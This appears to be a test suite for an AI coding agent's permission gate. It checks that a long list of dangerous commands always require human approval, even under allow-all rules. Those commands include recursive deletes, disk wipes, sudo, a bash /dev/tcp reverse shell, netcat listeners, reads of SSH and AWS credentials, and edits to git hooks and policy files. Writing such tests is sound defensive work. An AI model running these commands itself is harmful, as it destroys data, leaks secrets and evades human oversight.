import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DenialTracker } from '../../src/permissions/denials.js';
import { authorizeJudged } from '../../src/permissions/gate.js';
import { IMMUNE_CLASSES } from '../../src/permissions/immune-shell.js';
import { judgedFor } from '../../src/permissions/explain.js';
import { explain, parser, policyWith, sandbox, type Sandbox } from './helpers.js';

// [class, call]: every seed-004 class (and chatcli §6.4's regex families), plus codeward's own.
const CASES: readonly (readonly [string, string])[] = [
  ['inline-recursive-delete', '@coder exec python3 -c "import shutil; shutil.rmtree(\'../build\')"'],
  ['inline-recursive-delete', '@coder exec node -e "require(\'fs\').rmSync(\'/tmp/x\', { recursive: true })"'],
  ['unparsed-code', "@coder exec tclsh <<< 'exec rm -r build'"],
  ['find-delete', '@coder exec find ../build -delete'],
  ['find-delete', '@coder exec find -L out -name x -delete'],
  ['rm-recursive', '@coder exec rm -rf ../build'],
  ['rm-recursive', '@coder exec rm -rf build'],
  ['rm-recursive', '@coder exec rm -r build'],
  ['rm-recursive', '@coder exec rm -R build'],
  ['rm-recursive', '@coder exec rm --rec build'],
  ['rm-recursive', '@coder exec rm -r -f build'],
  ['rm-recursive', '@coder exec rm --recursive --force build'],
  ['rm-recursive', '@coder exec command rm -rf build'],
  ['rm-recursive', '@coder exec env rm -rf build'],
  ['rm-recursive', '@coder exec echo build | xargs rm -r'],
  ['rm-recursive', '@coder exec find . -name build -exec rm -r {} +'],
  ['rm-recursive', '@coder exec busybox rm -r build'],
  ['rm-recursive', '@coder exec \\rm -rf build'],
  ['rm-recursive', '@coder exec /bin/rm -rf build'],
  ['rm-recursive', '@coder exec timeout 30 nice rm -rf build'],
  ['find-delete', '@coder exec find build -delete'],
  ['find-delete', "@coder exec find . -name '*.o' -delete"],
  ['rm-recursive', '@coder exec rm -fr ../build'],
  ['rm-recursive', '@coder exec rm -r -f ../build'],
  ['rm-recursive', '@coder exec rm --recursive --force ../build'],
  ['rm-recursive', '@coder exec rm -Rfv ../build'],
  ['rm-root', '@coder exec rm -r /'],
  ['rm-root', '@coder exec rm --no-preserve-root -r /x'],
  ['mkfs', '@coder exec mkfs.ext4 /dev/sdb1'],
  ['mkfs', '@coder exec mkfs -t ext4 /dev/sdb1'],
  ['dd-device', '@coder exec dd if=/dev/zero of=/dev/sda bs=1M'],
  ['shred', '@coder exec shred -u secret.txt'],
  ['bulk-delete', '@coder exec git ls-files | xargs rm'],
  ['bulk-overwrite', '@coder exec git ls-files | xargs -n1 cp /dev/null'],
  ['rsync-delete', '@coder exec rsync -a --delete src/ dst/'],
  ['truncate', '@coder exec truncate -s0 a.txt'],
  ['mv-device', '@coder exec mv a.txt /dev/null'],
  ['patch-reverse', '@coder exec patch -R -p1 < fix.patch'],
  ['sudo', '@coder exec sudo ls'],
  ['sudo', '@coder exec doas make install'],
  ['sudo', '@coder exec sudo -u root -- npm test'],
  ['su', '@coder exec su -'],
  ['su', "@coder exec su -c 'ls' root"],
  ['chmod-777', '@coder exec chmod 777 file'],
  ['chmod-777', '@coder exec chmod -R a+w dir'],
  ['chmod-777', '@coder exec chmod 0666 file'],
  ['chmod-setuid', '@coder exec chmod +s file'],
  ['chmod-setuid', '@coder exec chmod 4755 file'],
  ['chmod-setuid', '@coder exec chmod u+s file'],
  ['setcap', '@coder exec setcap cap_setuid+ep file'],
  ['hash-bind', '@coder exec hash -p ./s.sh t'],
  ['hash-bind', '@coder exec hash -rp ./s.sh ls'],
  ['chown-root', '@coder exec chown root file'],
  ['chown-root', '@coder exec chown -R root:root dir'],
  ['insmod', '@coder exec insmod evil.ko'],
  ['rmmod', '@coder exec rmmod e1000'],
  ['modprobe', '@coder exec modprobe -r e1000'],
  ['sysctl-write', '@coder exec sysctl -w net.ipv4.ip_forward=1'],
  ['sysctl-write', '@coder exec sysctl kernel.x=1'],
  ['iptables-flush', '@coder exec iptables -F'],
  ['iptables-flush', '@coder exec ip6tables --flush'],
  ['systemctl-stop', '@coder exec systemctl stop nginx'],
  ['codeward-config', '@coder exec codeward trust'],
  ['git-config-outside', '@coder exec git config --global core.hooksPath h'],
  ['tool-config-write', '@coder exec npm config set script-shell ./x'],
  ['systemctl-user-install', '@coder exec systemctl --user enable x.service'],
  ['tool-trust', '@coder exec direnv allow'],
  ['home-startup', "@coder exec echo 'touch /tmp/x' >> ~/.bashrc"],
  ['systemctl-stop', '@coder exec systemctl disable sshd'],
  ['systemctl-stop', '@coder exec systemctl mask x'],
  ['nc-listen', '@coder exec nc -lvp 4444'],
  ['ncat-listen', '@coder exec ncat -l 4444'],
  ['git-push-force', '@coder exec git push --force'],
  ['git-push-force', '@coder exec git push -f origin main'],
  ['git-push-force', '@coder exec git -c a=b push --force-with-lease'],
  ['git-reset-hard', '@coder exec git reset --hard HEAD~1'],
  ['git-discard', '@coder exec git reset --merge'],
  ['git-discard', '@coder exec git checkout -- .'],
  ['git-discard', '@coder exec git checkout .'],
  ['git-discard', '@coder exec git checkout HEAD -- a.txt'],
  ['git-discard', '@coder exec git checkout HEAD~1 src'],
  ['git-discard', '@coder exec git checkout -f main'],
  ['git-discard', '@coder exec git checkout --for main'],
  ['git-discard', '@coder exec git checkout -qf main'],
  ['git-discard', '@coder exec git checkout -B main origin/main'],
  ['git-discard', "@coder exec git checkout '*.ts'"],
  ['git-discard', '@coder exec git checkout --theirs x'],
  ['git-discard', '@coder exec git restore .'],
  ['git-discard', '@coder exec git restore --source=HEAD~1 src'],
  ['git-discard', '@coder exec git restore -SW a'],
  ['git-discard', '@coder exec git restore --sta --work a'],
  ['git-discard', '@coder exec git switch -f main'],
  ['git-discard', '@coder exec git switch --disc main'],
  ['git-discard', '@coder exec git stash drop'],
  ['git-discard', '@coder exec git stash clear'],
  ['git-discard', '@coder exec git worktree remove --force wt'],
  ['git-discard', '@coder exec git worktree remove -ff wt'],
  ['git-discard', '@coder exec git branch -D x'],
  ['git-discard', '@coder exec git branch -df x'],
  ['git-discard', '@coder exec git branch --delete --for x'],
  ['git-discard', '@coder exec git branch -f main HEAD~3'],
  ['git-discard', '@coder exec git rm -rf .'],
  ['git-discard', '@coder exec git update-ref -d refs/heads/x'],
  ['git-discard', '@coder exec git read-tree -u --reset HEAD'],
  ['git-discard', '@coder exec git checkout-index -fa'],
  ['git-discard', '@coder exec git merge --abort'],
  ['git-discard', '@coder exec git rebase --ab'],
  ['git-discard', '@coder exec git rebase --skip'],
  ['git-discard', '@coder exec git submodule deinit -f x'],
  ['git-discard', '@coder exec git -c core.x=y checkout main'],
  ['git-discard', '@coder exec git nuke'],
  ['git-discard', '@coder exec git -C sub st'],
  ['git-clean-force', '@coder exec git clean -fdx'],
  ['kill-9', '@coder exec kill -9 123'],
  ['kill-9', '@coder exec kill -s KILL 123'],
  ['killall', '@coder exec killall node'],
  ['pkill-9', '@coder exec pkill -9 node'],
  ['shutdown', '@coder exec shutdown -h now'],
  ['shutdown', '@coder exec systemctl poweroff'],
  ['reboot', '@coder exec reboot'],
  ['poweroff', '@coder exec poweroff'],
  ['halt', '@coder exec halt'],
  ['dev-tcp', '@coder exec bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['dev-tcp', '@coder exec cat < /dev/udp/1.2.3.4/53'],
  ['sql-drop', '@coder exec psql -c "DROP TABLE users"'],
  ['sql-drop', '@coder exec psql <<EOF\ndrop database prod;\nEOF'],
  ['sql-truncate', '@coder exec mysql -e "truncate table orders"'],
  ['sql-delete-all', '@coder exec sqlite3 app.db "DELETE FROM users WHERE 1=1"'],
  ['sql-delete-all', '@coder exec sqlite3 app.db "delete from users;"'],
  ['ssh-keys', '@coder exec cat ~/.ssh/id_rsa'],
  ['ssh-keys', '@coder exec scp -i $HOME/.ssh/key a b'],
  ['ssh-keys', '@coder read .ssh/id_ed25519'],
  ['ssh-keys', '@coder write .ssh/authorized_keys'],
  ['gnupg', '@coder exec ls ~/.gnupg/'],
  ['aws-credentials', '@coder exec cat ~/.aws/credentials'],
  ['aws-credentials', '@coder read .aws/credentials'],
  ['kube-config', '@coder exec cp x ~/.kube/config'],
  ['git-credentials', '@coder read sub/.git-credentials'],
  ['system-path', '@coder exec cp hosts /etc/hosts'],
  ['system-path', '@coder exec echo x > /etc/hosts'],
  ['system-path', '@coder exec tee /boot/grub.cfg'],
  ['system-path', '@coder exec echo 1 > /proc/sys/vm/drop_caches'],
  ['system-path', '@coder exec cat x > /dev/sda'],
  ['codeward-policy', '@coder write .codeward/policy.json'],
  ['codeward-policy', '@coder delete .chatcli/coder_policy.json'],
  ['codeward-policy', '@coder write coder_policy.json'],
  ['codeward-policy', "@coder exec echo '{}' > .codeward/policy.json"],
  ['git-internals', '@coder write .git/hooks/pre-commit'],
  ['git-internals', '@coder exec cp hook.sh .git/hooks/pre-commit'],
  ['obeyed-later', '@coder write .husky/pre-commit'],
  ['obeyed-later', '@coder exec cp x.json .vscode/tasks.json'],
  ['obeyed-later', '@coder patch AGENTS.md'],
  ['obeyed-later', '@coder write pkg/.github/workflows/ci.yml'],
  ['obeyed-later', '@coder write crate/rust-toolchain.toml'],
  ['obeyed-later', '@coder exec cp x pkg/sub/.npmrc'],
  ['move-out', '@coder exec mv src ..'],
  ['bulk-delete-tool', '@coder exec npx rimraf src'],
  ['archive-overwrite', '@coder exec tar -xf x.tar'],
  ['unparsed', '@coder exec ls &&'],
  ['dynamic-command', '@coder exec $CMD x'],
  ['dynamic-command', '@coder exec $(echo rm) -rf x'],
  ['dynamic-args', '@coder exec git $SUBCOMMAND'],
  ['dynamic-args', '@coder exec rm $FILES'],
];

// Look alike, are not immune.
const NOT_IMMUNE: readonly string[] = [
  '@coder exec echo "rm -rf /"',
  '@coder exec grep -r sudo src',
  '@coder exec cat reboot.txt',
  '@coder exec git push origin main',
  '@coder exec git reset --soft HEAD~1',
  '@coder exec git clean -n',
  '@coder exec kill 123',
  '@coder exec chmod 644 file',
  '@coder exec chmod +x script.sh',
  '@coder exec rm build.log',
  '@coder exec rm -f build.log',
  '@coder exec git reset --keep HEAD~1',
  '@coder exec git reset HEAD a.txt',
  '@coder exec git checkout main',
  '@coder exec git checkout -b feature origin/main',
  '@coder exec git switch -c feature',
  '@coder exec git restore --staged a.txt',
  '@coder exec git stash',
  '@coder exec git stash pop',
  '@coder exec git rebase main',
  '@coder exec git branch feature',
  '@coder exec git worktree remove wt',
  '@coder exec git rm --cached -r x',
  '@coder exec git status',
  '@coder exec cat /etc/hosts',
  '@coder exec ls .git/',
  '@coder exec git log -- .git/x',
  '@coder exec nc example.com 80',
  '@coder exec systemctl status nginx',
  '@coder read .gitignore',
  '@coder read .codeward/policy.json',
  '@coder write .github/ISSUE_TEMPLATE/bug.md',
  '@coder exec echo $HOME',
];

let box: Sandbox;
beforeAll(async () => {
  box = await sandbox();
});
afterAll(async () => {
  await box.cleanup();
});

describe('safety immunity', () => {
  test('every class has a case', () => {
    const covered = new Set(CASES.map(([name]) => name));
    expect(IMMUNE_CLASSES.filter((cls) => !covered.has(cls.name)).map((cls) => cls.name)).toEqual([]);
    expect(IMMUNE_CLASSES.length).toBeGreaterThanOrEqual(40);
  });

  test.each(CASES)('%s: %j asks even under allow "@coder *"', async (name, call) => {
    const policy = await policyWith(box, ['allow @coder *', 'allow *']);
    const result = await explain(policy, call);
    expect({ decision: result.decision, source: result.source, immune: result.immune }).toEqual({ decision: 'ask', source: 'immune', immune: name });
  });

  test.each(CASES)('%s: %j is not approved by --yes (C241)', async (_name, call) => {
    const policy = await policyWith(box, ['allow @coder exec *', 'allow @coder *']);
    const [, command, rest] = /^@coder (\S+) ([\s\S]*)$/.exec(call)!;
    const gate = authorizeJudged([judgedFor(command!, rest)], { policy, denials: new DenialTracker(), yes: true, parser });
    await expect(gate).rejects.toMatchObject({ code: 'C241', message: expect.stringContaining('safety-immune') });
  });

  test.each(CASES)('%s: %j — a deny rule still denies', async (_name, call) => {
    const result = await explain(await policyWith(box, ['deny @coder *', 'deny *']), call);
    expect(result.decision).toBe('deny');
  });

  test.each(NOT_IMMUNE)('%j is not immune', async (call) => {
    const result = await explain(await policyWith(box, ['allow @coder *']), call);
    expect(result.immune, result.reason).toBeUndefined();
  });

  test('a person can approve an immune call once', async () => {
    const policy = await policyWith(box, ['allow @coder exec *']);
    const asked: unknown[] = [];
    await authorizeJudged([judgedFor('exec', 'git push --force')], {
      policy,
      denials: new DenialTracker(),
      yes: true,
      parser,
      approver: async (request) => {
        asked.push(request);
        return 'once';
      },
    });
    expect(asked).toEqual([expect.objectContaining({ immune: 'git-push-force', source: 'immune', options: ['once', 'no'] })]);
  });
});
